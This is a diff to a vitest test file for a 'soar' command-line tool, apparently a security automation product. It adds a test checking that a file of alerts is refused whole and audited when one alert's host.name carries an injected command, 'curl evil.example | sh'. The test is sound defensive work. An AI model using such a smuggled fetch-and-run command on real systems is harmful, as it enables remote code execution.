@@ -1,7 +1,12 @@
 import { execFile } from 'node:child_process';
+import { mkdtempSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { promisify } from 'node:util';
 import { describe, expect, it } from 'vitest';
+import { SqliteStore } from '../../../src/store/sqlite-store.js';
+import { exampleHit, setField, sourceOf } from '../alert/example.js';
 
 /** The real `soar` executable, as a user runs it (built by `npm test` before vitest starts). */
 const SOAR = fileURLToPath(new URL('../../../bin/soar.js', import.meta.url));
@@ -62,6 +67,28 @@ describe('soar CLI', () => {
     expect(code).toBe(0);
     expect(stdout).toContain('kill-process');
     expect(JSON.parse(stdout)).toHaveProperty('$schema');
+  });
+
+  it('run refuses a file of alerts whole when one is refused: no run starts, the refusal is audited', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'soar-cli-'));
+    const good = exampleHit();
+    const bad = exampleHit();
+    bad._id = 'a'.repeat(64);
+    setField(sourceOf(bad), 'kibana.alert.uuid', bad._id);
+    setField(sourceOf(bad), 'host.name', 'web-01; curl evil.example | sh');
+    writeFileSync(join(dir, 'alerts.json'), JSON.stringify({ hits: { hits: [good, bad] } }));
+    // The good alert's host is in the inventory (where nothing listens): acted on first, it would get a run.
+    writeFileSync(join(dir, 'known_hosts'), '');
+    writeFileSync(join(dir, 'soar.yaml'), 'known_hosts: known_hosts\nhosts:\n  web-01: { address: 127.0.0.1, port: 1, user: root, identity_file: none }\n');
+    const store = join(dir, 'soar.db');
+    const run = await soar('run', '--alert', join(dir, 'alerts.json'), '--config', join(dir, 'soar.yaml'), '--store', store, '--json');
+    expect(run.code).toBe(3);
+    expect(run.stdout).toContain('host.name');
+    const status = await soar('status', '--store', store, '--json');
+    expect(JSON.parse(status.stdout)).toEqual([]);
+    const trail = new SqliteStore(store);
+    expect(trail.auditRecords().map((record) => record.kind)).toEqual(['input.refused']);
+    trail.close();
   });
 
   it('explains usage mistakes with exit 2, never a stack trace', async () => {
